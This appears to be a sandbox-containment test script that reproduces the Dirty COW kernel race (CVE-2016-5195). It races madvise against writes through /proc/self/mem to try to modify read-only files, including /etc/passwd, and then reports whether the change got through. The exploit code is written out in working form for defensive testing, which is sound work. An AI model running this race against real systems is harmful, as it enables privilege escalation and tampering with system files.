# attack: race the kernel for a file's page that we may only read ("dirty COW", CVE-2016-5195)
# expect: CONTAINED
# bare: no, only kernels before 4.8.3 lose the race
import ctypes
import mmap
import os
import threading

from hostile import breach, contained, finish

MADV_DONTNEED, ROUNDS = 4, 300

libc = ctypes.CDLL(None, use_errno=True)
libc.madvise.argtypes = (ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int)
for path in (os.__file__, "/etc/passwd"):
    with open(path, "rb") as file:
        before = os.pread(file.fileno(), 4096, 0)
        page = mmap.mmap(file.fileno(), len(before), mmap.MAP_PRIVATE, mmap.PROT_READ | mmap.PROT_WRITE)
        address = ctypes.addressof(ctypes.c_char.from_buffer(page))

        def forget():
            for _ in range(ROUNDS):
                libc.madvise(address, 4096, MADV_DONTNEED)

        racer = threading.Thread(target=forget)
        racer.start()
        try:
            with open("/proc/self/mem", "r+b", 0) as memory:
                for _ in range(ROUNDS):
                    os.pwrite(memory.fileno(), bytes([before[1] ^ 1]), address + 1)
        except OSError as error:
            contained(f"/proc/self/mem {error.strerror}")
            for _ in range(ROUNDS):
                page[1] = before[1] ^ 1
        racer.join()
        if os.pread(file.fileno(), 4096, 0) != before:
            breach(f"{path} was changed")
        contained(f"{path} is as it was")
finish()
